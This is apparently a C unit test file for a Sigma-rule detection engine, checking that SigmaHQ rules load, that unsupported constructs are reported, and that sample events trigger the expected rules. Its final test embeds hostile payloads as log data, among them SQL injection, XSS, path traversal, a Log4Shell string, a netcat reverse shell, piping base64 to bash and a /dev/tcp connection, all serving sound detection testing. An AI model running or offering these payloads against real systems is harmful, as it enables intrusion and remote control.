/* SigmaHQ's rules, where the shared data is at hand: all load or say why not, the documented
 * constructs of old Sigma are named, and every labelled event is found by its rule. */
#include "core/test.h"

#include <stdio.h>
#include <stdlib.h>

#include "detect/try_int.h"

static struct ruleset *load(const char *below)
{
    char path[4096];
    const char *paths[1] = {try_data_path(below, path, sizeof(path))};
    struct ruleset *rs = NULL;
    struct diag diag = {0};

    if (!paths[0])
        return NULL;
    if (ruleset_load(paths, 1, &rs, &diag) != ERR_NONE)
        fail_msg("%s", diag.text);
    return rs;
}

static void tally(const struct rule_report *r)
{
    for (size_t i = 0; i < r->issues_n; i++) {
        size_t n = 0, k;
        for (k = 0; k < i && strcmp(r->issues[k].code, r->issues[i].code) != 0; k++)
            ;
        if (k < i)
            continue;
        for (k = i; k < r->issues_n; k++)
            n += strcmp(r->issues[k].code, r->issues[i].code) == 0;
        print_message("%s: %zu\n", r->issues[i].code, n);
    }
}

static size_t count(const struct rule_report *r, enum rule_issue_kind kind)
{
    size_t n = 0;

    for (size_t i = 0; i < r->issues_n; i++)
        n += r->issues[i].kind == kind;
    return n;
}

static void active_rules_load(void **unused)
{
    struct ruleset *rs = load("sigma/rules");

    (void)unused;
    if (!rs)
        skip();
    const struct rule_report *r = ruleset_report(rs);
    print_message("%zu files, %zu rules, %zu loaded, of these %zu can't match\n", r->files,
                  r->rules, r->loaded, count(r, ISSUE_CANNOT_MATCH));
    tally(r);
    for (size_t i = 0; i < r->issues_n; i++)
        if (r->issues[i].kind == ISSUE_ERROR || (r->issues[i].kind == ISSUE_CANNOT_MATCH &&
                                                 strcmp(r->issues[i].code, "placeholder") != 0))
            print_message("%s:%u: %s\n", r->issues[i].file, r->issues[i].line,
                          r->issues[i].message);
    assert_int_equal(r->files, 3780);
    assert_int_equal(r->rules, 3780);
    assert_int_equal(r->loaded, 3780);
    assert_int_equal(count(r, ISSUE_ERROR), 0);
    ruleset_unref(rs);
}

/* All but four files use a construct that is named, and these four are plain Sigma, set aside
 * upstream for what they ask of the sender. */
static void unsupported_rules_are_named(void **unused)
{
    struct ruleset *rs = load("sigma/unsupported");
    static const char *const codes[] = {"aggregation", "timeframe", "unknown-selection",
                                        "status-unsupported"};

    (void)unused;
    if (!rs)
        skip();
    const struct rule_report *r = ruleset_report(rs);
    size_t files = 0;
    for (size_t i = 0; i < r->issues_n; i++) {
        size_t k = 0;
        if (r->issues[i].kind == ISSUE_WARNING)
            continue;
        while (k < i && (r->issues[k].kind == ISSUE_WARNING ||
                         strcmp(r->issues[k].file, r->issues[i].file) != 0))
            k++;
        files += k == i;
    }
    tally(r);
    assert_int_equal(r->files, 87);
    assert_int_equal(files, 83); /* of them 80 for their status alone */
    assert_int_equal(r->loaded, 81);
    assert_int_equal(r->correlations, 54); /* old conditions with a bar */
    for (size_t i = 0; i < ARRAY_LEN(codes); i++)
        if (!try_has_issue(rs, codes[i]))
            fail_msg("nothing is reported as %s", codes[i]);
    ruleset_unref(rs);
}

static bool has_id(const char *ids, const char *id)
{
    return strstr(ids, id) != NULL;
}

/* Lines of JSON objects, or one object over many lines. */
static unsigned run_file(const struct ruleset *rs, struct slice text, const char *id)
{
    unsigned hits = 0;
    int depth = 0;
    bool quoted = false;
    size_t from = 0;

    for (size_t i = 0; i < text.n; i++) {
        char c = text.p[i];
        const char *ids;
        if (quoted) {
            i += c == '\\';
            quoted = c != '"';
            continue;
        }
        quoted = c == '"';
        if (c == '{' && depth++ == 0)
            from = i;
        if (c != '}' || --depth != 0)
            continue;
        (void)try_detect(rs, try_event(slice_cut(text, from, i + 1)), &ids);
        hits += has_id(ids, id);
    }
    return hits;
}

static char *field(char **line)
{
    return strsep(line, "\t");
}

static unsigned regress(const struct ruleset *rs, char *line)
{
    char path[4096];
    const char *id = field(&line);
    (void)field(&line);
    (void)field(&line);
    const char *json = field(&line);
    (void)field(&line);
    const char *expected = field(&line);
    size_t n = 0;

    if (!expected)
        fail_msg("index of another shape");
    if (!*json)
        return 0;
    const char *full = try_data_path(json, path, sizeof(path));
    char *text = full ? try_read(full, &n) : NULL;
    if (!text)
        fail_msg("no %s", json);
    unsigned hits = run_file(rs, (struct slice){text, n}, id);
    if (hits != (unsigned)strtoul(expected, NULL, 10)) {
        print_message("%s: %u of %s\n", json, hits, expected);
        hits = 0;
    }
    free(text);
    return hits > 0;
}

static void labelled_events_are_found(void **unused)
{
    struct ruleset *rs = load("sigma/rules");
    char path[4096];
    size_t n = 0;
    unsigned files = 0, good = 0;

    (void)unused;
    if (!rs)
        skip();
    const char *full = try_data_path("sigma/regression/index.tsv", path, sizeof(path));
    char *index = full ? try_read(full, &n) : NULL;
    assert_non_null(index);
    index[n] = 0;
    char *rest = index, *line = strsep(&rest, "\n");
    while ((line = strsep(&rest, "\n")) && *line) {
        files++;
        good += regress(rs, line);
    }
    print_message("%u of %u\n", good, files);
    assert_int_equal(good, files);
    free(index);
    ruleset_unref(rs);
}

/* Events under the names that the parsers give them, for rules written with the names of others. */
static void rules_for_web_linux_and_network_match(void **unused)
{
    static const struct {
        const char *id; /* NULL: no rule at all */
        const char *event;
    } cases[] = {
        {"5513deaf-f49a-46c2-a6c8-3f111b5cb453",
         "{\"event.dataset\":\"web.access\",\"http.request.method\":\"GET\",\"url.query\":"
         "\"id=1%20UNION%20SELECT%20a\",\"http.response.status_code\":200}"},
        {"65354b83-a2ea-4ea6-8414-3ab38be0d409",
         "{\"event.dataset\":\"web.access\",\"http.request.method\":\"GET\",\"url.original\":"
         "\"/?q=%3Cscript%3Ealert(1)%3C/script%3E\"}"},
        {"7745c2ea-24a5-4290-b680-04359cb84b35",
         "{\"event.dataset\":\"web.access\",\"url.query\":\"f=../../../../../etc/passwd\"}"},
        {"5ea8faa8-db8b-45be-89b0-151b84c82702",
         "{\"event.dataset\":\"web.access\",\"message\":\"GET / ${jndi:ldap://x/a}\"}"},
        {NULL, "{\"event.dataset\":\"web.access\",\"http.request.method\":\"GET\",\"url.original\":"
               "\"/tra-cuu?ma=HS1\",\"url.path\":\"/tra-cuu\",\"url.query\":\"ma=HS1\","
               "\"http.response.status_code\":200,\"user_agent.original\":\"Mozilla/5.0\"}"},
        {"7f734ed0-4f47-46c0-837f-6ee62505abd9",
         "{\"event.module\":\"sudo\",\"process.executable\":\"/usr/bin/nc\","
         "\"process.command_line\":\"/usr/bin/nc 192.0.2.1 1 -e /bin/bash\"}"},
        {"ba592c6d-6888-43c3-b8c6-689b8fe47337",
         "{\"event.module\":\"cron\",\"process.command_line\":\"echo aWQ= | base64 -d | bash\"}"},
        {"6cc5fceb-9a71-4c23-aeeb-963abe0b279c",
         "{\"event.module\":\"syslog\",\"message\":\"cat </dev/tcp/192.0.2.1/1\"}"},
        {"af202fd3-7bff-4212-a25a-fb34606cfcbe",
         "{\"event.module\":\"cron\",\"message\":\"(root) REPLACE (root)\"}"},
        {NULL, "{\"event.module\":\"sshd\",\"event.category\":\"authentication\",\"message\":"
               "\"Accepted publickey for a from 10.0.0.1 port 5 ssh2\",\"user.name\":\"a\"}"},
        {"b593fd50-7335-4682-a36c-4edcb68e4641",
         "{\"event.dataset\":\"suricata.dns\",\"dns.question.name\":\"pool.minexmr.com\"}"},
        {"d7fb8f0e-bd5f-45c2-b467-19571c490d7e",
         "{\"event.module\":\"fortigate\",\"destination.port\":21,\"event.action\":\"forward\"}"},
        {"a8322756-015c-42e7-afb1-436e85ed3ff5",
         "{\"event.dataset\":\"zeek.dns\",\"query\":\"abc.onion.to\"}"},
    };
    struct ruleset *rs = load("sigma/rules");

    (void)unused;
    if (!rs)
        skip();
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        const char *ids;
        (void)try_detect(rs, try_event(slice_of(cases[i].event)), &ids);
        if (cases[i].id ? !has_id(ids, cases[i].id) : *ids != 0)
            fail_msg("%s\nwanted %s, got '%s'", cases[i].event, cases[i].id ? cases[i].id : "none",
                     ids);
    }
    ruleset_unref(rs);
}

static int end(void **unused)
{
    (void)unused;
    try_done();
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(active_rules_load),
        cmocka_unit_test(unsupported_rules_are_named),
        cmocka_unit_test(labelled_events_are_found),
        cmocka_unit_test(rules_for_web_linux_and_network_match),
    };

    return cmocka_run_group_tests(tests, NULL, end);
}
